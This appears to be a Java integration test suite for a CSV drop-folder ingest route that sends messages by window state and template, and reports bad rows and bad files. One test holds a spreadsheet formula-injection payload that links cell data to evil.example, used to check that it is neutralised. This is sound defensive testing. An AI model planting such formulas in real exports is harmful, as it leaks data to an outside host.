package io.windowgate.routes;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Properties;

import com.fasterxml.jackson.databind.JsonNode;
import io.windowgate.notification.Status;
import org.junit.jupiter.api.Test;

/** csv-drop-ingest end to end: a dropped file is routed by window state, bad rows are reported, nothing goes twice. */
class CsvDropIngestRouteTest extends RouteTestSupport {

    private static final Duration WAIT = Duration.ofSeconds(15);

    /** Small chunks, so that every file here is read and sent in several (csv-drop-ingest, then csv-chunk-send). */
    @Override
    Properties extraProperties() {
        Properties p = new Properties();
        p.setProperty("drop.batch-size", "3");
        return p;
    }

    @Test
    void routesEachRowByWindowStateAndTemplate() throws Exception {
        windows().recordInbound("+14155550100", Instant.now().minusSeconds(3600), "wamid.in.1");
        windows().recordInbound("+14155550103", Instant.now().minus(Duration.ofHours(30)), "wamid.in.2");

        drop("orders.csv", """
                id,to,text,template,language,param1
                open-1,+14155550100,Your order shipped,,,
                closed-tpl,+14155550101,,order_shipped,en_US,1001
                closed-text,+14155550102,Only text,,,
                stale-text,+14155550103,Window closed 30 h ago,,,
                open-both,+14155550100,Text wins in an open window,order_shipped,en_US,7
                """);

        await().atMost(WAIT).until(() -> Files.exists(dropDir.resolve(".done/orders.csv")));
        assertThat(statusOf("open-1")).isEqualTo(Status.SENT);
        assertThat(stored("open-1").route()).isEqualTo("session");
        assertThat(stored("open-1").wamid()).startsWith("wamid.");
        assertThat(statusOf("closed-tpl")).isEqualTo(Status.SENT);
        assertThat(stored("closed-tpl").route()).isEqualTo("template");
        assertThat(statusOf("closed-text")).isEqualTo(Status.HELD);
        assertThat(statusOf("stale-text")).isEqualTo(Status.HELD);
        assertThat(stored("open-both").route()).isEqualTo("session");

        assertThat(sentTo(SESSION_PATH)).extracting(b -> b.path("biz_opaque_callback_data").asText())
                .containsExactlyInAnyOrder("open-1", "open-both");
        JsonNode template = sentTo(TEMPLATE_PATH).get(0);
        assertThat(template.path("to").asText()).isEqualTo("+14155550101");
        assertThat(template.path("template").path("name").asText()).isEqualTo("order_shipped");
        assertThat(template.path("template").path("components").path(0).path("parameters").path(0).path("text")
                .asText()).isEqualTo("1001");
        assertThat(template.path("biz_opaque_callback_data").asText()).isEqualTo("closed-tpl");
        provider.findAll(com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor(
                com.github.tomakehurst.wiremock.client.WireMock.anyUrl())).forEach(request ->
                assertThat(request.getHeader("Authorization")).isEqualTo("Bearer " + ACCESS_TOKEN));
    }

    @Test
    void badRowsGoToTheRejectedFileAndTheOthersStillGoOut() throws Exception {
        drop("mixed.csv", """
                id,to,template,language,text
                good-1,+14155550101,order_shipped,en_US,
                bad-phone,12,order_shipped,en_US,
                ,+14155550102,order_shipped,en_US,
                no-content,+14155550103,,,
                good-2,+14155550104,order_shipped,en_US,
                """);

        Path rejected = dropDir.resolve(".done/mixed.csv.rejected.csv");
        await().atMost(WAIT).until(() -> Files.exists(dropDir.resolve(".done/mixed.csv")));
        assertThat(statusOf("good-1")).isEqualTo(Status.SENT);
        assertThat(statusOf("good-2")).isEqualTo(Status.SENT);
        assertThat(statusOf("bad-phone")).isNull();
        assertThat(Files.readAllLines(rejected)).hasSize(4).satisfies(lines -> {
            assertThat(lines.get(0)).isEqualTo("line,reason,id,to,template,language,text");
            assertThat(lines.get(1)).startsWith("3,").contains("'12' is not a possible phone number").contains("bad-phone");
            assertThat(lines.get(2)).startsWith("4,").contains("id is missing");
            assertThat(lines.get(3)).startsWith("5,").contains("neither text nor template");
        });
    }

    @Test
    void aFormulaInARejectedRowIsNeutralisedAndTheFixedFileDroppedAgainSendsTheOriginal() throws Exception {
        windows().recordInbound("+14155550101", Instant.now().minusSeconds(60), "wamid.in.1");
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
        drop("promo.csv", "id,to,text,category\n"
                + "f-1,+14155550101,\"" + formula.replace("\"", "\"\"") + "\",nonsense\n");

        Path rejected = dropDir.resolve(".done/promo.csv.rejected.csv");
        await().atMost(WAIT).until(() -> Files.exists(dropDir.resolve(".done/promo.csv")));
        String report = Files.readString(rejected);
        assertThat(report).contains(",\"'+14155550101\",\"'=HYPERLINK(").doesNotContain(",=HYPERLINK(")
                .contains("category 'nonsense' is unknown");
        assertThat(statusOf("f-1")).isNull();

        drop("promo-fixed.csv", report.replace(",nonsense", ",utility"));
        await().atMost(WAIT).until(() -> Files.exists(dropDir.resolve(".done/promo-fixed.csv")));
        assertThat(statusOf("f-1")).isEqualTo(Status.SENT);
        assertThat(stored("f-1").notification().to()).isEqualTo("+14155550101");
        assertThat(sentTo(SESSION_PATH)).singleElement()
                .satisfies(body -> assertThat(body.path("text").path("body").asText()).isEqualTo(formula));
        assertThat(dropDir.resolve(".done/promo-fixed.csv.rejected.csv")).doesNotExist();
    }

    @Test
    void droppingTheSameRowsAgainSendsNothing() throws Exception {
        String content = "to;text;template;language\n+14155550101;;order_shipped;en_US\n+14155550102;;order_shipped;en_US\n";
        drop("first.csv", content);
        await().atMost(WAIT).until(() -> Files.exists(dropDir.resolve(".done/first.csv")));
        assertThat(sentTo(TEMPLATE_PATH)).hasSize(2);

        drop("second.csv", content);
        await().atMost(WAIT).until(() -> Files.exists(dropDir.resolve(".done/second.csv")));
        assertThat(sentTo(TEMPLATE_PATH)).hasSize(2);
        assertThat(sentTo(TEMPLATE_PATH)).extracting(b -> b.path("biz_opaque_callback_data").asText())
                .allMatch(id -> id.matches("csv-[0-9a-f]{16}-[23]"));
    }

    @Test
    void unreadableFileMovesToErrorWithAReason() throws Exception {
        drop("broken.csv", "id,to,text\nx-1,+14155550101,\"never closed\n");

        Path reason = dropDir.resolve(".error/broken.csv.reason.txt");
        await().atMost(WAIT).until(() -> Files.exists(dropDir.resolve(".error/broken.csv")) && Files.exists(reason));
        assertThat(Files.readString(reason)).contains("not valid CSV");
        assertThat(statusOf("x-1")).isNull();
        assertThat(sentTo("/v22.0/.*/messages")).isEmpty();
    }

    @Test
    void aBinaryFilesReasonQuotesABoundedPrintableExcerpt() throws Exception {
        Files.write(dropDir.resolve("zeros.csv"), new byte[4096]);

        Path reason = dropDir.resolve(".error/zeros.csv.reason.txt");
        await().atMost(WAIT).until(() -> Files.exists(dropDir.resolve(".error/zeros.csv")) && Files.exists(reason));
        assertThat(Files.readString(reason)).startsWith("zeros.csv: the header row has no 'to' column")
                .contains("\\u0000").contains("…").doesNotContain("\u0000").hasSizeLessThan(300);
    }

    @Test
    void fileWithoutRecipientColumnMovesToErrorNamingTheColumns() throws Exception {
        drop("nocol.csv", "id,phone,text\na,+14155550101,hi\n");

        Path reason = dropDir.resolve(".error/nocol.csv.reason.txt");
        await().atMost(WAIT).until(() -> Files.exists(reason));
        assertThat(Files.readString(reason)).contains("no 'to' column").contains("id, phone, text");
    }

    @Test
    void aRecipientsRowsGoOutInFileOrderAcrossChunks() throws Exception {
        windows().recordInbound("+14155550100", Instant.now().minusSeconds(60), "wamid.in.1");
        windows().recordInbound("+14155550101", Instant.now().minusSeconds(60), "wamid.in.2");
        StringBuilder csv = new StringBuilder("id,to,text\n");
        List<String> first = new ArrayList<>();
        List<String> second = new ArrayList<>();
        for (int i = 1; i <= 12; i++) {
            first.add("a-" + i);
            second.add("b-" + i);
            csv.append("a-").append(i).append(",+14155550100,step ").append(i).append('\n');
            csv.append("b-").append(i).append(",+14155550101,step ").append(i).append('\n');
        }
        drop("steps.csv", csv.toString());

        await().atMost(WAIT).until(() -> Files.exists(dropDir.resolve(".done/steps.csv")));
        List<String> sent = sentTo(SESSION_PATH).stream().map(b -> b.path("biz_opaque_callback_data").asText())
                .toList();
        assertThat(sent).hasSize(24);
        assertThat(sent.stream().filter(id -> id.startsWith("a-"))).containsExactlyElementsOf(first);
        assertThat(sent.stream().filter(id -> id.startsWith("b-"))).containsExactlyElementsOf(second);
        assertThat(first).allSatisfy(id -> assertThat(statusOf(id)).isEqualTo(Status.SENT));
    }

    @Test
    void aCsvWhoseNameStartsWithADotMovesToErrorWithAReasonAndTemporaryNamesAreLeftAlone() throws Exception {
        Files.writeString(dropDir.resolve(".export.csv.tmp"), "id,to,text\nt-1,+14155550101,hi\n");
        Files.writeString(dropDir.resolve(".export.csv.Xy12ab"), "id,to,text\nt-2,+14155550101,hi\n");
        drop(".orders.csv", "id,to,template,language\nd-1,+14155550101,order_shipped,en_US\n");
        drop("..list.csv", "id,to,template,language\nd-2,+14155550101,order_shipped,en_US\n");

        Path reason = dropDir.resolve(".error/.orders.csv.reason.txt");
        Path second = dropDir.resolve(".error/..list.csv.reason.txt");
        await().atMost(WAIT).until(() -> Files.exists(reason) && Files.exists(second));
        assertThat(Files.readString(reason).strip()).isEqualTo(".orders.csv: file names starting with '.' are "
                + "reserved for Windowgate's own folders and temporary files: rename it to orders.csv");
        assertThat(Files.readString(second)).contains("rename it to list.csv");
        assertThat(dropDir.resolve(".error/.orders.csv")).exists();
        assertThat(dropDir.resolve(".orders.csv")).doesNotExist();
        assertThat(dropDir.resolve(".export.csv.tmp")).exists();
        assertThat(dropDir.resolve(".export.csv.Xy12ab")).exists();
        assertThat(List.of("d-1", "d-2", "t-1", "t-2")).allSatisfy(id -> assertThat(statusOf(id)).isNull());
        assertThat(sentTo("/v22.0/.*/messages")).isEmpty();
        HttpResponse<String> runs = get("/api/files/.orders.csv", ADMIN_TOKEN);
        assertThat(runs.body()).contains("ERROR").contains("rename it to orders.csv");
    }

    @Test
    void partFilesAreLeftAlone() throws Exception {
        Files.writeString(dropDir.resolve("upload.csv.part"), "id,to,text\np-1,+14155550101,hi\n");
        drop("real.csv", "id,to,template,language\nr-1,+14155550101,order_shipped,en_US\n");

        await().atMost(WAIT).until(() -> Files.exists(dropDir.resolve(".done/real.csv")));
        assertThat(Files.exists(dropDir.resolve("upload.csv.part"))).isTrue();
        assertThat(statusOf("p-1")).isNull();
        assertThat(statusOf("r-1")).isEqualTo(Status.SENT);
    }
}
